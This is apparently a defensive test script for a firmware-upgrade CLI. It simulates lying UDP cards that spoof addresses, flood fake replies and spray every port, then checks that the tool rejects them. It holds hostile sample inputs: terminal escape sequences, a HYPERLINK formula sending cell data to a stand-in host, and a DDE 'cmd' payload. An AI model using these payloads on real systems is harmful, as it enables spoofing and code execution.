#!/usr/bin/env python3
"""daveridur-cli against lying cards on its own LAN: a card that answers as
another address (a newer version for a card still to be upgraded, the new
version for a card whose check is running), answers queries meant for
another, floods made-up addresses from one source, sprays new-version
replies from the address of a card under its check (to the port its first
check came from, blindly from then on: the check must not believe them),
sprays every port of the host with a reply from an address never asked
while a discovery asks one card, and cards whose error
texts carry C1 control characters, read as the program's own "OK." or hold a
spreadsheet formula.

    scripts/netns-run.sh python3 tests/net/cli/hostile_test.py [--wine] COMMAND...

With --wine COMMAND is the Windows program under Wine (inside
scripts/wine-run.sh), whose account is in the registry: it stays "admin".
Only the private namespace's addresses are used: every card lives on lo."""

import csv
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import harness  # noqa: E402
from harness import check, finish  # noqa: E402

VICTIM = "10.69.9.5"   # honest, runs 1.00, keeps it after an upload
LIAR = "10.69.9.66"    # honest about itself, lies about everyone else
ERRORS = {             # honest cards that refuse the upload with these texts
    "10.69.9.11": b"OK.",
    "10.69.9.12": b"\xc2\x9b31mred\xc2\x9b0m \x9b2J \x1b]0;t\x07 \xc2\x85done",
    "10.69.9.13": b'=HYPERLINK("http://x.example/"&A1,"Wrong password - click")',
}
MADE_UP = ["8.8.8.8", "0.0.0.0", "224.0.0.1", "255.255.255.255", "127.0.0.1", "240.1.2.3",
           "10.69.9.200", "10.69.9.201", "not an address"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
RESTART_S = 16  # the victim is silent this long after an upload, then back with 1.00
NEVER_ASKED = "10.69.50.50"  # sprays its reply to every port during a direct discovery


def sysinfo(ip, version, write=True):
    text = "MX-2 SNMP/WEB Card\r\n+PROD : 0x00010004\r\n+IP : %s\r\n" \
           "+MAC : 00-0a-ff-09-00-%02x\r\n+FW : v%s\r\n" % (ip, sum(ip.encode()) % 256 if not
                                                        ip.replace(".", "").isdigit()
                                                        else int(ip.split(".")[-1]) % 256, version)
    if write:
        text += "+WRQ : ACCEPT\r\n"
    return b"\x00\x03\x00\x01" + text.encode()


def error(message):
    return b"\x00\x05\x00\x00" + message + b"\x00"


class HostileNet:
    """Every card of the test, on one thread; what each received is kept."""

    def __init__(self):
        self.lock = threading.Lock()
        self.uploads = {}        # ip: bytes received
        self.wrq = []            # ips that got a write request
        self.quiet_until = 0.0   # the victim restarting
        self.stop = False
        self.spray_to = []       # where the victim's check asked first after its upload
        self.far_sprayed = False
        self.discovering = False  # the direct discovery is under way
        self.socks = {}
        for ip in [VICTIM, LIAR] + list(ERRORS):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((ip, 69))
            self.socks[ip] = s
        # Broadcasts reach a socket bound to the broadcast address (shared
        # with any other simulated card on the same host).
        self.bcast = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.bcast.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.bcast.bind(("255.255.255.255", 69))
        # Senders of datagrams that claim another source: the victim's
        # address (another port), and an address nobody asks.
        self.spoof = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.spoof.bind((VICTIM, 0))
        self.far = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.far.bind((NEVER_ASKED, 0))
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()
        self.sprayer = threading.Thread(target=self.spray, daemon=True)
        self.sprayer.start()

    def spray(self):
        """v1.05 as the victim, with its own MAC, twenty times a second, to
        where its check first asked after the upload."""
        while not self.stop:
            with self.lock:
                targets = list(self.spray_to)
            for to in targets:
                try:
                    self.spoof.sendto(sysinfo(VICTIM, "1.05"), to)
                except OSError:
                    pass
            time.sleep(0.05)

    def spray_every_port(self, host):
        low, high = 32768, 60999
        try:
            with open("/proc/sys/net/ipv4/ip_local_port_range") as f:
                low, high = (int(x) for x in f.read().split())
        except (OSError, ValueError):
            pass
        reply = sysinfo(NEVER_ASKED, "1.00")
        for port in range(low, high + 1):
            try:
                self.far.sendto(reply, (host, port))
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sprayer.join(timeout=5)

    def lie(self, to, about_victim_version):
        liar = self.socks[LIAR]
        # As another address: the victim, with a version of the liar's choice.
        liar.sendto(sysinfo(VICTIM, about_victim_version), to)
        liar.sendto(sysinfo(VICTIM + ", v9.99", "9.99"), to)
        # Unasked, for itself, on the socket that asked the victim.
        liar.sendto(sysinfo(LIAR, "1.05"), to)

    def flood(self, to):
        liar = self.socks[LIAR]
        for ip in MADE_UP:
            liar.sendto(sysinfo(ip, "1.00"), to)
        for n in range(1, 200):
            liar.sendto(sysinfo("10.70.%d.%d" % (n // 250, n % 250 + 1), "1.00"), to)

    def serve(self):
        import select
        socks = list(self.socks.values()) + [self.bcast]
        while not self.stop:
            ready, _, _ = select.select(socks, [], [], 0.1)
            for s in ready:
                data, peer = s.recvfrom(2048)
                if len(data) < 4 or data[:2] not in (b"\x00\x01", b"\x00\x02"):
                    continue  # the program's ACKs of our replies
                name = data[2:].split(b"\x00")[0]
                if s is self.bcast:
                    if name == b"sysinfo":
                        for ip in ERRORS:
                            self.socks[ip].sendto(sysinfo(ip, "1.00"), peer)
                        self.socks[VICTIM].sendto(sysinfo(VICTIM, "1.00"), peer)
                        self.socks[LIAR].sendto(sysinfo(LIAR, "1.00"), peer)
                        self.lie(peer, "9.99")
                        self.flood(peer)
                    continue
                ip = s.getsockname()[0]
                if data[:2] == b"\x00\x01" and name == b"sysinfo":
                    self.answer_query(ip, peer)
                elif data[:2] == b"\x00\x02":
                    with self.lock:
                        self.wrq.append(ip)
                    if ip in ERRORS:
                        s.sendto(error(ERRORS[ip]), peer)
                    elif ip == LIAR:
                        s.sendto(error(b"  ok. upgraded"), peer)
                    else:
                        threading.Thread(target=self.receive_upload, args=(ip, peer),
                                         daemon=True).start()

    def answer_query(self, ip, peer):
        if ip == VICTIM and self.discovering and not self.far_sprayed:
            self.far_sprayed = True
            self.spray_every_port(peer[0])
        if ip == VICTIM:
            after_upload = VICTIM in self.uploads
            with self.lock:
                if after_upload and not self.spray_to:
                    self.spray_to.append(peer)
            if time.time() >= self.quiet_until:
                self.socks[VICTIM].sendto(sysinfo(VICTIM, "1.00"), peer)
            # The liar answers every query for the victim: first with a newer
            # version (the card would be skipped), then, once it took an
            # upload, with the image's (its check would pass).
            self.lie(peer, "1.05" if after_upload else "9.99")
        elif ip == LIAR:
            self.socks[LIAR].sendto(sysinfo(LIAR, "1.00"), peer)
            self.flood(peer)
        else:
            self.socks[ip].sendto(sysinfo(ip, "1.00"), peer)

    def receive_upload(self, ip, peer):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((ip, 0))
        s.settimeout(5)
        s.sendto(b"\x00\x04\x00\x00", peer)
        got, expect = b"", 1
        try:
            while True:
                data, _ = s.recvfrom(1024)
                if data[:2] != b"\x00\x03":
                    return
                block = struct.unpack(">H", data[2:4])[0]
                if block == expect:
                    got += data[4:]
                    expect += 1
                s.sendto(b"\x00\x04" + data[2:4], peer)
                if block == expect - 1 and len(data) < 516:
                    break
        except socket.timeout:
            return
        finally:
            s.close()
        with self.lock:
            self.uploads[ip] = got
            self.quiet_until = time.time() + RESTART_S


def run(command, *args, timeout=120):
    return harness.run(command, *args, timeout=timeout, raw=True)


def control_characters(raw):
    """The control characters (C0 but line ends and tabs, DEL, C1) of an
    output, or why it is not UTF-8."""
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError as e:
        return ["not UTF-8: %s" % e]
    return sorted({"U+%04X" % ord(c) for c in text
                   if (ord(c) < 0x20 and c not in "\r\n\t") or 0x7F <= ord(c) <= 0x9F})


def formula_cells(path_or_text, is_text=False):
    text = path_or_text if is_text else open(path_or_text, newline="", encoding="utf-8").read()
    return [cell for row in csv.reader(text.splitlines(True)) for cell in row
            if cell.startswith(FORMULA_START)]


def main():
    wine = sys.argv[1:2] == ["--wine"]
    command = sys.argv[2:] if wine else sys.argv[1:]
    native = os.environ["DAVERIDUR_BIN"]
    work = tempfile.mkdtemp(prefix="daveridur-hostile-test.")
    os.environ["HOME"] = work
    # A stored account that would be a formula in discover --csv, were it
    # shown there as the card's.
    key = os.path.join(work, ".config/daveridur/Software/Duzavod/Daveridur")
    os.makedirs(key)
    with open(os.path.join(key, "LastAccount"), "wb") as f:
        f.write(struct.pack("<I", 1) + b"=cmd|' /C calc'!A0\x00")
    image = os.path.join(work, "new.bin")
    subprocess.run([os.path.join(native, "tools/mkimage/mkimage"), image, "--version", "1.05",
                    "--date", "07042020", "--size", "3000"], check=True, stdout=subprocess.DEVNULL)
    net = HostileNet()
    honest = sorted([VICTIM, LIAR] + list(ERRORS), key=socket.inet_aton)
    try:
        # Found by broadcast: the cards themselves, nothing the liar made up.
        rc, out, err = run(command, "discover", "--wait", "1000", "--csv")
        listed = [l.split(",")[0] for l in out.decode(errors="replace").splitlines()[1:]]
        if not wine:
            check("discover --csv: the stored account never shown as a card's", False, "cmd|" in out.decode())
        check("discover lists the cards and no made-up address", (0, honest), (rc, listed))
        victim_row = [l for l in out.decode(errors="replace").splitlines() if l.startswith(VICTIM + ",")]
        check("discover: the victim's own version", ["1.00"], [r.split(",")[2] for r in victim_row])
        check("discover --csv: no formula cell", [], formula_cells(out.decode(), True))
        check("discover: no control character", ([], []), (control_characters(out), control_characters(err)))

        # Asked directly, only the card asked is listed, as it says itself:
        # not the address that sprayed its reply to every port meanwhile.
        net.discovering = True
        rc, out, _ = run(command, "discover", VICTIM, "--wait", "600")
        net.discovering = False
        check("direct discover: every port was sprayed", True, net.far_sprayed)
        check("direct discover", [VICTIM + "\t00-0a-ff-09-00-05\t1.00\tready\t"],
              [l.rstrip("\r") for l in out.decode().splitlines()])

        # Upgraded and checked: the liar's 9.99 skips nothing, its 1.05
        # during the check (as itself, as the victim, sprayed) applies
        # nothing; the cards' texts stay theirs.
        report = os.path.join(work, "report.csv")
        cards = [VICTIM, LIAR] + list(ERRORS)
        started = time.time()
        rc, out, err = run(command, "upgrade", image, *cards, "--verify", "--report", report,
                           timeout=180)
        took = time.time() - started
        text = out.decode(errors="replace")
        check("upgrade: a card failed", 1, rc)
        check("upgrade: the victim was sent the image", True, len(net.uploads.get(VICTIM, b"")) > 3000)
        check("upgrade: every card asked got its write request", sorted(cards), sorted(set(net.wrq)))
        check("upgrade lines", sorted([
            VICTIM + " OK.",
            LIAR + ' Card error: "  ok. upgraded"',
            "10.69.9.11 Card error: \"OK.\"",
            "10.69.9.12  31mred 0m \ufffd2J  ]0;t   done",
            '10.69.9.13 =HYPERLINK("http://x.example/"&A1,"Wrong password - click")',
        ]), sorted(l.rstrip("\r") for l in text.splitlines()))
        check("upgrade: no control character", ([], []), (control_characters(out), control_characters(err)))
        err_lines = err.decode(errors="replace").splitlines()
        check("upgrade: nothing applied", [], [l for l in err_lines
                                               if "applied" in l and "not applied" not in l
                                               and not l.startswith("run: ")])
        check("upgrade: the count line applies none", True,
              any(l.startswith("run: 0 of ") for l in err_lines))
        with open(report, newline="", encoding="utf-8") as f:
            rows = {r["ip"]: r for r in csv.DictReader(f)}
        check("report: the victim as it was and is", ("1.00", "ok", "not_applied"),
              (rows[VICTIM]["version_before"], rows[VICTIM]["result"], rows[VICTIM]["verified"]))
        check("upgrade: the victim's check was sprayed", True, bool(net.spray_to))
        check("report: the OK. card", ("card_error", 'Card error: "OK."'),
              (rows["10.69.9.11"]["result"], rows["10.69.9.11"]["message"]))
        check("report: the formula kept as text", "'=HYPERLINK(",
              rows["10.69.9.13"]["message"][:12])
        check("report: no formula cell", [], formula_cells(report))
        check("report: no control character", [], control_characters(open(report, "rb").read()))
        print("upgrade with its checks took %.1f s" % took)
    finally:
        net.close()
    sys.exit(finish())


if __name__ == "__main__":
    main()
